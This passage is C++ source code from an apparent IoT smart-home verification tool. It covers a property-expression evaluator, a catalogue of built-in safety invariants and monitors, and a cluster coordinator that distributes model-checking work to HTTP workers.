        if (!expr.b) return PropValue::Bool(cond || EvalBool(*expr.c));
        return cond ? Eval(*expr.b) : Eval(*expr.c);
      }
      case ExprKind::kCall:
        return EvalCall(expr);
      default:
        Malformed(expr, "unsupported construct in property expression");
    }
  }

  PropValue EvalCall(const Expr& expr) {
    if (expr.a) Malformed(expr, "method calls are not part of the language");
    auto string_arg = [&](std::size_t i) -> std::string {
      if (i >= expr.items.size() ||
          expr.items[i]->kind != ExprKind::kStringLit) {
        Malformed(expr, expr.text + " expects string argument #" +
                            std::to_string(i + 1));
      }
      return expr.items[i]->text;
    };

    if (expr.text == "any" || expr.text == "all") {
      PropValue out;
      out.kind = PropValue::Kind::kQuantifier;
      out.quant.universal = expr.text == "all";
      out.quant.role = string_arg(0);
      out.quant.attribute = string_arg(1);
      return out;
    }
    if (expr.text == "count") {
      const std::string role = string_arg(0);
      const std::string attr = string_arg(1);
      const std::string value = string_arg(2);
      int count = 0;
      for (int device : state_.DevicesWithRole(role)) {
        auto v = state_.AttributeValue(device, attr);
        if (v.has_value() && *v == value) ++count;
      }
      return PropValue::Number(count);
    }
    if (expr.text == "online" || expr.text == "offline") {
      const std::string role = string_arg(0);
      bool all_online = true;
      for (int device : state_.DevicesWithRole(role)) {
        all_online = all_online && state_.DeviceOnline(device);
      }
      return PropValue::Bool(expr.text == "online" ? all_online
                                                   : !all_online);
    }
    if (expr.text == "exists") {
      return PropValue::Bool(!state_.DevicesWithRole(string_arg(0)).empty());
    }
    Malformed(expr, "unknown property function '" + expr.text + "'");
  }

  PropValue EvalBinary(const Expr& expr) {
    switch (expr.binary_op) {
      case BinaryOp::kAnd:
        return PropValue::Bool(EvalBool(*expr.a) && EvalBool(*expr.b));
      case BinaryOp::kOr:
        return PropValue::Bool(EvalBool(*expr.a) || EvalBool(*expr.b));
      default:
        break;
    }

    PropValue lhs = Eval(*expr.a);
    PropValue rhs = Eval(*expr.b);

    if (lhs.kind == PropValue::Kind::kQuantifier ||
        rhs.kind == PropValue::Kind::kQuantifier) {
      // Normalize to quantifier-on-the-left, mirroring the comparison.
      if (lhs.kind != PropValue::Kind::kQuantifier) {
        std::swap(lhs, rhs);
        return PropValue::Bool(CompareQuantifier(
            lhs.quant, MirrorOp(expr.binary_op), rhs, expr));
      }
      return PropValue::Bool(
          CompareQuantifier(lhs.quant, expr.binary_op, rhs, expr));
    }

    switch (expr.binary_op) {
      case BinaryOp::kAdd:
      case BinaryOp::kSub:
      case BinaryOp::kMul:
      case BinaryOp::kDiv:
      case BinaryOp::kMod: {
        if (lhs.kind != PropValue::Kind::kNumber ||
            rhs.kind != PropValue::Kind::kNumber) {
          Malformed(expr, "arithmetic needs numbers");
        }
        double r = 0;
        switch (expr.binary_op) {
          case BinaryOp::kAdd: r = lhs.number + rhs.number; break;
          case BinaryOp::kSub: r = lhs.number - rhs.number; break;
          case BinaryOp::kMul: r = lhs.number * rhs.number; break;
          case BinaryOp::kDiv: r = lhs.number / rhs.number; break;
          default: r = static_cast<double>(
                       static_cast<long long>(lhs.number) %
                       static_cast<long long>(rhs.number));
        }
        return PropValue::Number(r);
      }
      default:
        return PropValue::Bool(CompareScalars(lhs, expr.binary_op, rhs, expr));
    }
  }

  static BinaryOp MirrorOp(BinaryOp op) {
    switch (op) {
      case BinaryOp::kLt: return BinaryOp::kGt;
      case BinaryOp::kLe: return BinaryOp::kGe;
      case BinaryOp::kGt: return BinaryOp::kLt;
      case BinaryOp::kGe: return BinaryOp::kLe;
      default: return op;
    }
  }

  bool CompareScalars(const PropValue& lhs, BinaryOp op, const PropValue& rhs,
                      const Expr& expr) {
    if (lhs.kind == PropValue::Kind::kNumber &&
        rhs.kind == PropValue::Kind::kNumber) {
      switch (op) {
        case BinaryOp::kEq: return lhs.number == rhs.number;
        case BinaryOp::kNe: return lhs.number != rhs.number;
        case BinaryOp::kLt: return lhs.number < rhs.number;
        case BinaryOp::kLe: return lhs.number <= rhs.number;
        case BinaryOp::kGt: return lhs.number > rhs.number;
        case BinaryOp::kGe: return lhs.number >= rhs.number;
        default: Malformed(expr, "bad numeric comparison");
      }
    }
    if (lhs.kind == PropValue::Kind::kString &&
        rhs.kind == PropValue::Kind::kString) {
      if (op == BinaryOp::kEq) return lhs.str == rhs.str;
      if (op == BinaryOp::kNe) return lhs.str != rhs.str;
      Malformed(expr, "strings support only == and !=");
    }
    if (lhs.kind == PropValue::Kind::kBool &&
        rhs.kind == PropValue::Kind::kBool) {
      if (op == BinaryOp::kEq) return lhs.b == rhs.b;
      if (op == BinaryOp::kNe) return lhs.b != rhs.b;
    }
    Malformed(expr, "type mismatch in comparison");
  }

  bool CompareQuantifier(const Quantifier& quant, BinaryOp op,
                         const PropValue& rhs, const Expr& expr) {
    if (rhs.kind == PropValue::Kind::kQuantifier) {
      Malformed(expr, "cannot compare two quantifiers");
    }
    const bool numeric = rhs.kind == PropValue::Kind::kNumber;
    bool any_match = false;
    bool all_match = true;
    bool saw_device = false;
    for (int device : state_.DevicesWithRole(quant.role)) {
      PropValue value;
      if (numeric) {
        auto v = state_.NumericValue(device, quant.attribute);
        if (!v.has_value()) continue;
        value = PropValue::Number(*v);
      } else {
        auto v = state_.AttributeValue(device, quant.attribute);
        if (!v.has_value()) continue;
        value = PropValue::String(*v);
      }
      saw_device = true;
      const bool match = CompareScalars(value, op, rhs, expr);
      any_match = any_match || match;
      all_match = all_match && match;
    }
    if (!saw_device) {
      // Vacuous quantification: all() over the empty set holds, any()
      // does not.
      return quant.universal;
    }
    return quant.universal ? all_match : any_match;
  }
};

}  // namespace

bool EvalPropertyExpr(const dsl::Expr& expr, const StateView& state) {
  return Evaluator(state).EvalBool(expr);
}

}  // namespace iotsan::props
