#include "props/property.hpp"

#include "dsl/parser.hpp"

namespace iotsan::props {

const dsl::Expr& Property::ParsedExpression() const {
  if (!parsed_) {
    dsl::ExprPtr owned = dsl::ParseExpression(expression, "property " + id);
    parsed_ = std::shared_ptr<dsl::Expr>(owned.release());
  }
  return *parsed_;
}

std::vector<std::string> RolesReferenced(const dsl::Expr& expr) {
  std::vector<std::string> roles;
  auto add = [&roles](const std::string& role) {
    for (const std::string& existing : roles) {
      if (existing == role) return;
    }
    roles.push_back(role);
  };
  // Quantifier terms carry their role as the first string argument.
  if (expr.kind == dsl::ExprKind::kCall &&
      (expr.text == "any" || expr.text == "all" || expr.text == "count" ||
       expr.text == "online" || expr.text == "offline" ||
       expr.text == "exists") &&
      !expr.items.empty() &&
      expr.items[0]->kind == dsl::ExprKind::kStringLit) {
    add(expr.items[0]->text);
  }
  if (expr.a) {
    for (const std::string& r : RolesReferenced(*expr.a)) add(r);
  }
  if (expr.b) {
    for (const std::string& r : RolesReferenced(*expr.b)) add(r);
  }
  if (expr.c) {
    for (const std::string& r : RolesReferenced(*expr.c)) add(r);
  }
  for (const dsl::ExprPtr& item : expr.items) {
    for (const std::string& r : RolesReferenced(*item)) add(r);
  }
  for (const dsl::NamedArg& arg : expr.named) {
    for (const std::string& r : RolesReferenced(*arg.value)) add(r);
  }
  return roles;
}

namespace {
void CollectRoles(const dsl::Expr& expr, bool universal_only,
                  std::vector<std::string>& roles) {
  auto add = [&roles](const std::string& role) {
    for (const std::string& existing : roles) {
      if (existing == role) return;
    }
    roles.push_back(role);
  };
  if (expr.kind == dsl::ExprKind::kCall && !expr.items.empty() &&
      expr.items[0]->kind == dsl::ExprKind::kStringLit) {
    const bool universal = expr.text == "all" || expr.text == "online" ||
                           expr.text == "offline";
    const bool existential = expr.text == "any" || expr.text == "count" ||
                             expr.text == "exists";
    if (universal || (existential && !universal_only)) {
      add(expr.items[0]->text);
    }
  }
  if (expr.a) CollectRoles(*expr.a, universal_only, roles);
  if (expr.b) CollectRoles(*expr.b, universal_only, roles);
  if (expr.c) CollectRoles(*expr.c, universal_only, roles);
  for (const dsl::ExprPtr& item : expr.items) {
    CollectRoles(*item, universal_only, roles);
  }
  for (const dsl::NamedArg& arg : expr.named) {
    CollectRoles(*arg.value, universal_only, roles);
  }
}
}  // namespace

std::vector<std::string> UniversalRolesReferenced(const dsl::Expr& expr) {
  std::vector<std::string> roles;
  CollectRoles(expr, /*universal_only=*/true, roles);
  return roles;
}

bool ReferencesMode(const dsl::Expr& expr) {
  if (expr.kind == dsl::ExprKind::kIdent && expr.text == "mode") return true;
  if (expr.a && ReferencesMode(*expr.a)) return true;
  if (expr.b && ReferencesMode(*expr.b)) return true;
  if (expr.c && ReferencesMode(*expr.c)) return true;
  for (const dsl::ExprPtr& item : expr.items) {
    if (ReferencesMode(*item)) return true;
  }
  for (const dsl::NamedArg& arg : expr.named) {
    if (ReferencesMode(*arg.value)) return true;
  }
  return false;
}

Property MakeInvariant(std::string id, std::string category,
                       std::string description, std::string expression) {
  Property p;
  p.id = std::move(id);
  p.category = std::move(category);
  p.description = std::move(description);
  p.kind = PropertyKind::kInvariant;
  p.expression = std::move(expression);
  p.roles = RolesReferenced(p.ParsedExpression());
  p.universal_roles = UniversalRolesReferenced(p.ParsedExpression());
  return p;
}

namespace {

Property Monitor(std::string id, std::string category,
                 std::string description, PropertyKind kind) {
  Property p;
  p.id = std::move(id);
  p.category = std::move(category);
  p.description = std::move(description);
  p.kind = kind;
  return p;
}

std::vector<Property> BuildBuiltins() {
  std::vector<Property> props;
  const char* kHvac = "Thermostat, AC, and Heater";
  const char* kLock = "Lock and door control";
  const char* kMode = "Location mode";
  const char* kSecurity = "Security and alarming";
  const char* kWater = "Water and sprinkler";
  const char* kOthers = "Others";

  // --- Thermostat, AC, and Heater (5) -------------------------------------
  props.push_back(MakeInvariant(
      "P01", kHvac,
      "A heater is on when temperature is below a predefined threshold and "
      "people are at home",
      R"(!(any("tempSensor", "temperature") < 65
          && any("presence", "presence") == "present"
          && all("heaterOutlet", "switch") == "off"))"));
  props.push_back(MakeInvariant(
      "P02", kHvac,
      "An AC is on when temperature is above a predefined threshold and "
      "people are at home",
      R"(!(any("tempSensor", "temperature") > 80
          && any("presence", "presence") == "present"
          && all("acOutlet", "switch") == "off"))"));
  props.push_back(MakeInvariant(
      "P03", kHvac, "An AC and a heater are never both turned on",
      R"(!(any("acOutlet", "switch") == "on"
          && any("heaterOutlet", "switch") == "on"))"));
  props.push_back(MakeInvariant(
      "P04", kHvac,
      "A heater is not turned on when temperature is above a predefined "
      "threshold",
      R"(!(any("tempSensor", "temperature") > 80
          && any("heaterOutlet", "switch") == "on"))"));
  props.push_back(MakeInvariant(
      "P05", kHvac,
      "An AC is not turned on when temperature is below a predefined "
      "threshold",
      R"(!(any("tempSensor", "temperature") < 65
          && any("acOutlet", "switch") == "on"))"));

  // --- Lock and door control (8) -------------------------------------------
  props.push_back(MakeInvariant(
      "P06", kLock, "The main door is locked when no one is at home",
      R"(!(all("presence", "presence") == "notpresent"
          && any("mainDoorLock", "lock") == "unlocked"))"));
  props.push_back(MakeInvariant(
      "P07", kLock,
      "The main door is locked when people are sleeping at night",
      R"(!(mode == "Night" && any("mainDoorLock", "lock") == "unlocked"))"));
  props.push_back(MakeInvariant(
      "P08", kLock, "The garage door is closed when no one is at home",
      R"(!(all("presence", "presence") == "notpresent"
          && any("garageDoor", "door") == "open"))"));
  props.push_back(MakeInvariant(
      "P09", kLock, "The garage door is closed at night",
      R"(!(mode == "Night" && any("garageDoor", "door") == "open"))"));
  props.push_back(MakeInvariant(
      "P10", kLock, "The main door is locked when location mode is Away",
      R"(!(mode == "Away" && any("mainDoorLock", "lock") == "unlocked"))"));
  props.push_back(MakeInvariant(
      "P11", kLock, "The front door is not left open when no one is at home",
      R"(!(all("presence", "presence") == "notpresent"
          && any("frontDoorContact", "contact") == "open"))"));
  props.push_back(MakeInvariant(
      "P12", kLock, "The entrance door is closed when no one is at home",
      R"(!(all("presence", "presence") == "notpresent"
          && any("entranceDoor", "door") == "open"))"));
  props.push_back(MakeInvariant(
      "P13", kLock, "The main door is locked while people are sleeping",
      R"(!(any("sleepSensor", "sleeping") == "sleeping"
          && any("mainDoorLock", "lock") == "unlocked"))"));

  // --- Location mode (3) ----------------------------------------------------
  props.push_back(MakeInvariant(
      "P14", kMode, "Location mode is changed to Away when no one is at home",
      R"(!(all("presence", "presence") == "notpresent" && mode == "Home"))"));
  props.push_back(MakeInvariant(
      "P15", kMode, "Location mode is not Away while someone is at home",
      R"(!(any("presence", "presence") == "present" && mode == "Away"))"));
  props.push_back(MakeInvariant(
      "P16", kMode, "Location mode is not Night when no one is at home",
      R"(!(mode == "Night"
          && all("presence", "presence") == "notpresent"))"));

  // --- Security and alarming (14) -------------------------------------------
  props.push_back(MakeInvariant(
      "P17", kSecurity, "An alarm strobes/sirens when detecting smoke",
      R"(!(any("smokeSensor", "smoke") == "detected"
          && all("alarmSiren", "alarm") == "off"))"));
  props.push_back(MakeInvariant(
      "P18", kSecurity,
      "An alarm strobes/sirens when detecting carbon monoxide",
      R"(!(any("coSensor", "carbonMonoxide") == "detected"
          && all("alarmSiren", "alarm") == "off"))"));
  props.push_back(MakeInvariant(
      "P19", kSecurity,
      "An alarm strobes/sirens when motion is detected while Away",
      R"(!(mode == "Away" && any("securityMotion", "motion") == "active"
          && all("alarmSiren", "alarm") == "off"))"));
  props.push_back(MakeInvariant(
      "P20", kSecurity,
      "An alarm strobes/sirens when a door opens while Away",
      R"(!(mode == "Away" && any("frontDoorContact", "contact") == "open"
          && all("alarmSiren", "alarm") == "off"))"));
  props.push_back(MakeInvariant(
      "P21", kSecurity, "The alarm is silent when there is no emergency",
      R"(!(any("alarmSiren", "alarm") != "off"
          && all("smokeSensor", "smoke") == "clear"
          && all("coSensor", "carbonMonoxide") == "clear"
          && all("securityMotion", "motion") == "inactive"
          && mode != "Away"))"));
  props.push_back(MakeInvariant(
      "P22", kSecurity,
      "The camera captures an image when motion is detected while Away",
      R"(!(mode == "Away" && any("securityMotion", "motion") == "active"
          && all("camera", "image") == "none"))"));
  props.push_back(MakeInvariant(
      "P23", kSecurity,
      "The water valve is not shut off while smoke is detected",
      R"(!(any("smokeSensor", "smoke") == "detected"
          && any("waterValve", "valve") == "closed"))"));
  props.push_back(MakeInvariant(
      "P24", kSecurity,
      "The camera captures an image when a door opens while Away",
      R"(!(mode == "Away" && any("frontDoorContact", "contact") == "open"
          && all("camera", "image") == "none"))"));
  props.push_back(MakeInvariant(
      "P25", kSecurity, "An alarm strobes/sirens when a water leak is "
      "detected",
      R"(!(any("leakSensor", "water") == "wet"
          && all("alarmSiren", "alarm") == "off"))"));
  props.push_back(MakeInvariant(
      "P26", kSecurity,
      "Ventilation is on while carbon monoxide is detected",
      R"(!(any("coSensor", "carbonMonoxide") == "detected"
          && any("ventSwitch", "switch") == "off"))"));
  props.push_back(MakeInvariant(
      "P27", kSecurity, "Window shades are closed when location mode is Away",
      R"(!(mode == "Away" && any("windowShade", "windowShade") == "open"))"));
  props.push_back(MakeInvariant(
      "P28", kSecurity, "The heater is powered off while smoke is detected",
      R"(!(any("smokeSensor", "smoke") == "detected"
          && any("heaterOutlet", "switch") == "on"))"));
  props.push_back(MakeInvariant(
      "P29", kSecurity,
      "Appliance outlets are powered off while smoke is detected",
      R"(!(any("smokeSensor", "smoke") == "detected"
          && any("applianceOutlet", "switch") == "on"))"));
  props.push_back(MakeInvariant(
      "P30", kSecurity,
      "Security lighting turns on when motion is detected while Away",
      R"(!(mode == "Away" && any("securityMotion", "motion") == "active"
          && all("securityLight", "switch") == "off"))"));

  // --- Water and sprinkler (3) ----------------------------------------------
  props.push_back(MakeInvariant(
      "P31", kWater, "The sprinkler runs when soil moisture is too low",
      R"(!(any("moistureSensor", "soilMoisture") < 20
          && all("sprinklerSwitch", "switch") == "off"))"));
  props.push_back(MakeInvariant(
      "P32", kWater, "The sprinkler is off when soil moisture is high",
      R"(!(any("moistureSensor", "soilMoisture") > 60
          && any("sprinklerSwitch", "switch") == "on"))"));
  props.push_back(MakeInvariant(
      "P33", kWater, "The water valve is closed when a leak is detected",
      R"(!(any("leakSensor", "water") == "wet"
          && any("waterValve", "valve") == "open"))"));

  // --- Others (5) -------------------------------------------------------------
  props.push_back(MakeInvariant(
      "P34", kOthers, "Appliance outlets are off when no one is at home",
      R"(!(all("presence", "presence") == "notpresent"
          && any("applianceOutlet", "switch") == "on"))"));
  props.push_back(MakeInvariant(
      "P35", kOthers, "Lights are off when location mode is Away",
      R"(!(mode == "Away" && any("light", "switch") == "on"))"));
  props.push_back(MakeInvariant(
      "P36", kOthers, "The speaker is not playing when no one is at home",
      R"(!(all("presence", "presence") == "notpresent"
          && any("speaker", "status") == "playing"))"));
  props.push_back(MakeInvariant(
      "P37", kOthers, "Lights are off when people are sleeping at night",
      R"(!(mode == "Night" && any("light", "switch") == "on"))"));
  props.push_back(MakeInvariant(
      "P38", kOthers,
      "Heating and cooling are off when no one is at home",
      R"(!(all("presence", "presence") == "notpresent"
          && (any("heaterOutlet", "switch") == "on"
              || any("acOutlet", "switch") == "on")))"));

  // --- Monitors (7) ------------------------------------------------------------
  props.push_back(Monitor(
      "P39", "Conflicting commands",
      "When a single external event happens, an actuator does not receive "
      "two conflicting commands",
      PropertyKind::kNoConflict));
  props.push_back(Monitor(
      "P40", "Repeated commands",
      "When a single external event happens, an actuator does not receive "
      "multiple repeated commands of the same type",
      PropertyKind::kNoRepeat));
  props.push_back(Monitor(
      "P41", "Information leakage",
      "Private information is sent out only via message interfaces, never "
      "via network interfaces",
      PropertyKind::kNoNetworkLeak));
  props.push_back(Monitor(
      "P42", "Information leakage",
      "SMS recipients match the configured phone numbers or contacts",
      PropertyKind::kSmsRecipient));
  props.push_back(Monitor(
      "P43", "Security-sensitive command",
      "Apps do not execute security-sensitive commands (unsubscribe)",
      PropertyKind::kNoSensitiveCmd));
  props.push_back(Monitor(
      "P44", "Security-sensitive command",
      "Apps do not inject fake device events",
      PropertyKind::kNoFakeEvent));
  props.push_back(Monitor(
      "P45", "Robustness",
      "Apps verify that actuator commands were executed and notify the "
      "user on device/communication failure",
      PropertyKind::kRobustness));
  return props;
}

}  // namespace

const std::vector<Property>& BuiltinProperties() {
  static const std::vector<Property>& props = *new std::vector<Property>(
      BuildBuiltins());
  return props;
}

const Property* FindBuiltinProperty(const std::string& id) {
  for (const Property& p : BuiltinProperties()) {
    if (p.id == id) return &p;
  }
  return nullptr;
}

}  // namespace iotsan::props
