// Distributed swarm verification: a cluster coordinator over N iotsan
// workers (Holzmann swarm over HTTP).
//
// The coordinator reuses the sanitizer's own decomposition as its work
// partition: `Sanitizer::PlanGroups` yields independent related-set
// groups, each of which becomes one work unit dispatched to a worker's
// `POST /v1/check` with the `groupApps` option.  Oversized groups can
// additionally be split along the checker's deterministic root
// (event × failure) branch enumeration (`branchModulus`/`branchResidue`
// units), and bitstate searches can fan out as *swarm lanes* — the same
// group re-run under diverse hash-family seeds so each lane omits
// different states.
//
// Determinism: group units are exactly the computations a single node
// performs, merged in plan order through core::MergeGroupResult /
// FinalizeReport, so a cluster run's verdicts, violation ordering, and
// counter-example traces are byte-identical to a single-node run on
// exhaustive stores — regardless of worker count, dispatch order, or
// mid-run worker death.  Branch shards and swarm lanes merge through
// checker::MergeViolationInto / CanonicalizeViolations (the same
// canonical-min dedup the in-process parallel search uses), which keeps
// verdicts and traces identical while summed state counters reflect
// aggregate work (each shard owns a store).
//
// Robustness: workers are probed against /v1/health, every dispatch is
// bounded by a deadline and retried with jittered exponential backoff,
// units on a dead worker are re-dispatched to survivors, and when no
// worker is reachable the whole check degrades to local execution with
// a warning.  All of it is visible through the `cluster.*` counters, a
// dispatch-latency histogram, and per-worker rows in /v1/status.
#pragma once

#include <cstdint>
#include <mutex>
#include <string>
#include <vector>

#include "checker/checker.hpp"
#include "core/service.hpp"
#include "util/json.hpp"

namespace iotsan::cluster {

struct WorkerSpec {
  std::string host;
  int port = 0;
  std::string endpoint() const { return host + ":" + std::to_string(port); }
};

/// Parses "host:port,host:port,..." (the --workers flag).  Hostnames
/// are allowed; ports must be 1..65535.  Throws iotsan::Error.
std::vector<WorkerSpec> ParseWorkerList(const std::string& list);

struct ClusterOptions {
  std::vector<WorkerSpec> workers;
  /// Per-unit dispatch deadline in seconds: the HTTP inactivity budget
  /// one unit gets on one worker before the coordinator abandons the
  /// attempt (and retries / re-dispatches).
  double unit_deadline_seconds = 600;
  int connect_timeout_ms = 2000;
  /// Transport attempts per unit on one worker before it is declared
  /// dead and the unit re-queued.
  int max_attempts = 3;
  int backoff_base_ms = 50;
  int backoff_max_ms = 2000;
  /// Jitter PRNG seed (decorrelate retries; tests pin it).
  std::uint64_t jitter_seed = 1;
  /// Split each group's root branches into this many shard units
  /// (0/1 = off).  Opt-in: shards own separate stores, so summed state
  /// counts exceed a single run's; verdicts are unaffected.
  unsigned branch_split = 0;
  /// Bitstate swarm lanes per group (0/1 = off): lane i re-runs the
  /// group with hash seed SplitMix64(i), violations union.
  unsigned swarm_lanes = 0;
  /// Run remaining units locally when every worker is unreachable
  /// (false = fail the check instead).
  bool allow_local_fallback = true;
};

enum class UnitKind { kGroup, kBranchShard, kSwarmLane };

/// One schedulable piece of a verification.
struct WorkUnit {
  UnitKind kind = UnitKind::kGroup;
  /// Index of the related-set group in the coordinator's plan (merge
  /// happens in this order).
  std::size_t group_index = 0;
  /// App indices (into deployment.apps) of the group.
  std::vector<std::size_t> group_apps;
  unsigned branch_modulus = 0;
  unsigned branch_residue = 0;
  std::uint64_t bitstate_seed = 0;
};

/// Per-worker health and accounting, surfaced as /v1/status rows.
struct WorkerStatus {
  std::string endpoint;
  bool healthy = false;
  std::uint64_t units_done = 0;
  std::uint64_t units_failed = 0;
  std::uint64_t retries = 0;
  double last_latency_ms = 0;
  std::string last_error;
};

struct ClusterOutcome {
  core::CheckResponse response;
  std::size_t units_total = 0;
  std::size_t units_remote = 0;
  std::size_t units_local = 0;
  std::size_t units_redispatched = 0;
  /// True when no worker was reachable and the whole check ran locally.
  bool degraded_local = false;
};

// ---- wire format (exposed for tests) -----------------------------------------

/// CheckResult <-> JSON round trip for the unit response ("unit" key of
/// the worker's envelope).  The field set mirrors the result cache's
/// entry serialization, so every field MergeGroupResult consumes
/// survives the trip and merged reports stay byte-identical.
json::Value CheckResultToJson(const checker::CheckResult& result);
checker::CheckResult CheckResultFromJson(const json::Value& doc);

/// The iotsan.request/1 envelope dispatching `unit` of `request` to a
/// worker's POST /v1/check.
json::Value UnitRequestJson(const core::CheckRequest& request,
                            const WorkUnit& unit);

/// Plans the unit list for `groups` (PlanGroups output, in plan order):
/// one kGroup unit per group by default; kBranchShard × branch_split
/// units per group when branch splitting is on; kSwarmLane units when
/// swarm lanes are on and the request uses a bitstate store.
std::vector<WorkUnit> PlanUnits(
    const std::vector<std::vector<std::size_t>>& groups,
    const ClusterOptions& options, const core::RequestOptions& request);

/// Folds the shard/lane results of ONE group back into a single
/// CheckResult (counters sum — minus the (n-1) duplicate initial-state
/// accountings for branch shards — violations dedup canonically).
/// `results` must be in residue/lane order.  Identity for size 1.
checker::CheckResult MergeShardResults(UnitKind kind,
                                       std::vector<checker::CheckResult>
                                           results);

// ---- coordinator -------------------------------------------------------------

class Coordinator {
 public:
  explicit Coordinator(ClusterOptions options);

  /// Probes every worker's GET /v1/health; refreshes the status rows
  /// and returns how many answered healthy.
  std::size_t ProbeWorkers();

  /// Plans, dispatches, and merges one verification.  Deterministic
  /// fields of the response match core::RunCheck exactly (see header
  /// comment).  Throws iotsan::Error when no worker is reachable and
  /// local fallback is disabled.
  ClusterOutcome Check(const core::CheckRequest& request,
                       const core::ServiceEnv& env = {});

  std::vector<WorkerStatus> WorkerRows() const;
  const ClusterOptions& options() const { return options_; }

 private:
  struct WorkerState {
    WorkerSpec spec;
    WorkerStatus status;
  };

  ClusterOptions options_;
  mutable std::mutex mutex_;  // guards workers_ status fields
  std::vector<WorkerState> workers_;
};

}  // namespace iotsan::cluster
