#include "cluster/cluster.hpp"

#include <algorithm>
#include <chrono>
#include <condition_variable>
#include <cstdio>
#include <deque>
#include <thread>

#include "config/deployment.hpp"
#include "core/sanitizer.hpp"
#include "telemetry/telemetry.hpp"
#include "util/error.hpp"
#include "util/hash.hpp"
#include "util/http_client.hpp"

namespace iotsan::cluster {

namespace {

using Clock = std::chrono::steady_clock;

/// Non-default request options forwarded verbatim to every unit — the
/// worker must search exactly as a single node would.  `jobs` is
/// deliberately absent: the worker's own pool size does not affect the
/// canonicalized result, so each worker runs at its native width.
json::Object BaseOptionsJson(const core::RequestOptions& options) {
  json::Object out;
  if (options.events > 0) out["events"] = options.events;
  if (options.failures) out["failures"] = true;
  if (options.bitstate) out["bitstate"] = true;
  if (options.bitstate_bits_pow > 0) {
    out["bitstateBits"] = options.bitstate_bits_pow;
  }
  if (options.por) out["por"] = true;
  if (options.state_compression) out["stateCompression"] = true;
  if (options.first) out["first"] = true;
  if (options.reverify_bitstate) out["reverifyBitstate"] = true;
  if (options.allow_discovery) out["allowDiscovery"] = true;
  // Always explicit, so a worker's own default deadline can never cut a
  // unit short when the coordinator runs unbounded.
  out["deadlineSeconds"] =
      static_cast<std::int64_t>(options.deadline_seconds);
  return out;
}

/// [{id, category, description, expression}] — the shape
/// props::LoadPropertiesJson reads back on the worker.
json::Array PropertiesJson(const std::vector<props::Property>& properties) {
  json::Array out;
  for (const props::Property& p : properties) {
    json::Object entry;
    entry["id"] = p.id;
    entry["category"] = p.category;
    entry["description"] = p.description;
    entry["expression"] = p.expression;
    out.push_back(json::Value(std::move(entry)));
  }
  return out;
}

}  // namespace

// ---- worker list -------------------------------------------------------------

std::vector<WorkerSpec> ParseWorkerList(const std::string& list) {
  std::vector<WorkerSpec> out;
  std::size_t start = 0;
  while (start <= list.size()) {
    std::size_t end = list.find(',', start);
    if (end == std::string::npos) end = list.size();
    std::string entry = list.substr(start, end - start);
    start = end + 1;
    while (!entry.empty() && (entry.front() == ' ' || entry.front() == '\t')) {
      entry.erase(entry.begin());
    }
    while (!entry.empty() && (entry.back() == ' ' || entry.back() == '\t')) {
      entry.pop_back();
    }
    if (entry.empty()) continue;
    const std::size_t colon = entry.rfind(':');
    if (colon == std::string::npos || colon == 0 ||
        colon + 1 >= entry.size()) {
      throw Error("workers: '" + entry + "' is not host:port");
    }
    WorkerSpec spec;
    spec.host = entry.substr(0, colon);
    const std::string port_text = entry.substr(colon + 1);
    spec.port = 0;
    if (port_text.size() <= 5 &&
        port_text.find_first_not_of("0123456789") == std::string::npos) {
      spec.port = std::stoi(port_text);
    }
    if (spec.port < 1 || spec.port > 65535) {
      throw Error("workers: '" + entry + "' has an invalid port");
    }
    out.push_back(std::move(spec));
  }
  if (out.empty()) throw Error("workers: the worker list is empty");
  return out;
}

// ---- wire format -------------------------------------------------------------

json::Value CheckResultToJson(const checker::CheckResult& result) {
  json::Object res;
  json::Array violations;
  for (const checker::Violation& v : result.violations) {
    violations.push_back(checker::ViolationToJson(v));
  }
  res["violations"] = std::move(violations);
  res["states_explored"] = static_cast<std::int64_t>(result.states_explored);
  res["states_matched"] = static_cast<std::int64_t>(result.states_matched);
  res["transitions"] = static_cast<std::int64_t>(result.transitions);
  res["cascade_drains"] = static_cast<std::int64_t>(result.cascade_drains);
  res["completed"] = result.completed;
  // The worker's compute time, replayed verbatim: serial single-node
  // reports sum per-group seconds, and so does the coordinator's merge.
  res["seconds"] = result.seconds;
  res["store_fill_ratio"] = result.store_fill_ratio;
  res["est_omission_probability"] = result.est_omission_probability;
  res["store_entries"] = static_cast<std::int64_t>(result.store_entries);
  res["store_memory_bytes"] =
      static_cast<std::int64_t>(result.store_memory_bytes);
  res["store_bytes_per_state"] = result.store_bytes_per_state;
  res["compress_pool_entries"] =
      static_cast<std::int64_t>(result.compress_pool_entries);
  res["compress_pool_bytes"] =
      static_cast<std::int64_t>(result.compress_pool_bytes);
  res["compress_lookups"] =
      static_cast<std::int64_t>(result.compress_lookups);
  res["compress_hits"] = static_cast<std::int64_t>(result.compress_hits);
  json::Array depths;
  for (std::uint64_t count : result.depth_histogram) {
    depths.push_back(static_cast<std::int64_t>(count));
  }
  res["depth_histogram"] = std::move(depths);
  return json::Value(std::move(res));
}

checker::CheckResult CheckResultFromJson(const json::Value& doc) {
  checker::CheckResult result;
  for (const json::Value& v : doc.At("violations").AsArray()) {
    result.violations.push_back(checker::ViolationFromJson(v));
  }
  result.states_explored =
      static_cast<std::uint64_t>(doc.GetNumber("states_explored"));
  result.states_matched =
      static_cast<std::uint64_t>(doc.GetNumber("states_matched"));
  result.transitions =
      static_cast<std::uint64_t>(doc.GetNumber("transitions"));
  result.cascade_drains =
      static_cast<std::uint64_t>(doc.GetNumber("cascade_drains"));
  result.completed = doc.GetBool("completed", true);
  result.seconds = doc.GetNumber("seconds");
  result.store_fill_ratio = doc.GetNumber("store_fill_ratio");
  result.est_omission_probability =
      doc.GetNumber("est_omission_probability");
  result.store_entries =
      static_cast<std::uint64_t>(doc.GetNumber("store_entries"));
  result.store_memory_bytes =
      static_cast<std::uint64_t>(doc.GetNumber("store_memory_bytes"));
  result.store_bytes_per_state = doc.GetNumber("store_bytes_per_state");
  result.compress_pool_entries =
      static_cast<std::uint64_t>(doc.GetNumber("compress_pool_entries"));
  result.compress_pool_bytes =
      static_cast<std::uint64_t>(doc.GetNumber("compress_pool_bytes"));
  result.compress_lookups =
      static_cast<std::uint64_t>(doc.GetNumber("compress_lookups"));
  result.compress_hits =
      static_cast<std::uint64_t>(doc.GetNumber("compress_hits"));
  for (const json::Value& count : doc.At("depth_histogram").AsArray()) {
    result.depth_histogram.push_back(
        static_cast<std::uint64_t>(count.AsNumber()));
  }
  return result;
}

json::Value UnitRequestJson(const core::CheckRequest& request,
                            const WorkUnit& unit) {
  json::Object doc;
  doc["schema"] = "iotsan.request/1";
  doc["deployment"] = config::DeploymentToJson(request.deployment);
